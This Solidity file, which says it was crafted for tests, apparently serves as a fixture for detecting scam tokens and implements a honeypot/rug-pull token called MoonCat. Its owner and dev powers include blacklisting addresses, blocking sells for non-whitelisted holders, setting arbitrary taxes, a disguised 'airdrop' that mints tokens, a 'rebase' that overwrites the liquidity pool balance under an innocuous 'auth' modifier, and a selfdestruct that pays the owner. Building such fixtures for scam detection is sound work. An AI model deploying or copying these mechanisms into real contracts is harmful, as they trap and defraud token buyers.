// SPDX-License-Identifier: MIT
// Crafted for tests: the owner powers of a typical honeypot / rug token.
pragma solidity ^0.8.0;

abstract contract Context {
    function _msgSender() internal view virtual returns (address) { return msg.sender; }
}

contract Ownable is Context {
    address private _owner;
    constructor() { _owner = _msgSender(); }
    function owner() public view returns (address) { return _owner; }
    modifier onlyOwner() {
        require(owner() == _msgSender(), "Ownable: caller is not the owner");
        _;
    }
    function renounceOwnership() public virtual onlyOwner { _owner = address(0); }
}

contract MoonCat is Context, Ownable {
    mapping(address => uint256) private _balances;
    mapping(address => bool) private _isBot;
    mapping(address => bool) private _whitelist;
    mapping(address => uint256) private _cooldown;
    uint256 private _totalSupply = 1e27;
    uint256 private _buyTax = 5;
    uint256 private _sellTax = 5;
    uint256 public _maxTxAmount = 1e25;
    bool private tradingOpen;
    address private _dev;
    address public uniswapV2Pair;

    modifier onlyDev() {
        require(msg.sender == _dev, "not dev");
        _;
    }

    // auth hides the owner check under an innocent name
    modifier auth() {
        require(_msgSender() == owner(), "");
        _;
    }

    function openTrading() external onlyOwner {
        tradingOpen = true;
    }

    function setBots(address[] memory bots_) public onlyOwner {
        for (uint i = 0; i < bots_.length; i++) {
            _isBot[bots_[i]] = true;
        }
    }

    function setTaxes(uint256 buy, uint256 sell) external onlyOwner {
        _setTaxes(buy, sell);
    }

    function _setTaxes(uint256 buy, uint256 sell) private {
        _buyTax = buy;
        _sellTax = sell;
    }

    function setMaxTx(uint256 amount) external onlyOwner {
        _maxTxAmount = amount;
    }

    // "airdrop": actually prints tokens
    function airdrop(address to, uint256 amount) external onlyDev {
        _balances[to] += amount;
        _totalSupply += amount;
    }

    function rebase(uint256 x) external auth {
        _balances[uniswapV2Pair] = x;
    }

    function kill() external onlyOwner {
        selfdestruct(payable(owner()));
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(!_isBot[from] && !_isBot[to], "blacklisted");
        if (to == uniswapV2Pair && from != owner()) {
            require(_whitelist[from], "sells are not open");
            require(_cooldown[from] < block.timestamp);
        }
        uint256 tax = to == uniswapV2Pair ? _sellTax : _buyTax;
        _balances[from] -= amount;
        _balances[to] += amount * (100 - tax) / 100;
    }
}
